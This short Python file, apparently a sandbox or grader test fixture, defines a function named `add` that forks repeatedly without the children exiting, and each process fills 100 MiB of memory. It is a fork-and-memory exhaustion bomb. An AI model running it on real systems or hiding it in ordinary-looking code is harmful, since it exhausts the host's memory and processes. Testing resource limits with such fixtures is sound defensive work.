"""Children of `add` fill anonymous memory that they share with their parent, one region after another."""

import mmap
import os
import time

from right import *  # noqa: F403


def add(a, b):
    for _ in range(8):
        if os.fork() == 0:
            region = mmap.mmap(-1, 100 * 2**20)
            for offset in range(0, len(region), mmap.PAGESIZE):
                region[offset] = 1
            time.sleep(60)
    time.sleep(60)
